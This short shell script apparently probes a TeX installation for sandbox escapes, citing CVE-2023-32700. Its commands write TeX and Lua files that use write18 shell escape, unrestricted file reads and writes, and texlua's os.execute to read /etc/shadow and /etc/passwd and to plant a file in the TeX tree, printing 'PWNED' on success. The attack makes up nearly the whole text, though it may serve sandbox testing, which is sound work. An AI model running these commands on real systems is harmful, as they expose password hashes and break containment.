# tries: leave through TeX itself, with everything allowed
# duration: 10
# from: openin_any=a, shell_escape=t, luatex CVE-2023-32700
printf '\\immediate\\write18{cat /etc/shadow > got}\\end' > w.tex
tried tex-write18
shell_escape=t openin_any=a openout_any=a tex -interaction=batchmode -shell-escape w.tex > /dev/null 2>&1; grep -q root: got 2> /dev/null && echo PWNED
printf '\\newread\\f\\openin\\f=/etc/passwd \\read\\f to\\l \\message{\\l}\\end' > r.tex
tried tex-read
openin_any=a tex -interaction=batchmode r.tex > /dev/null 2>&1; grep -q 'root:' r.log && echo PWNED
printf '\\newwrite\\f\\immediate\\openout\\f=/usr/share/texmf/pwned \\immediate\\write\\f{x}\\end' > o.tex
tried tex-write
openout_any=a tex -interaction=batchmode o.tex > /dev/null 2>&1; test -e /usr/share/texmf/pwned && echo PWNED
printf 'local f = io.open("/etc/shadow"); if f then print("PWNED") end; os.execute("cat /etc/shadow && echo PWNED")' > l.lua
tried lua
texlua --shell-escape l.lua 2> /dev/null
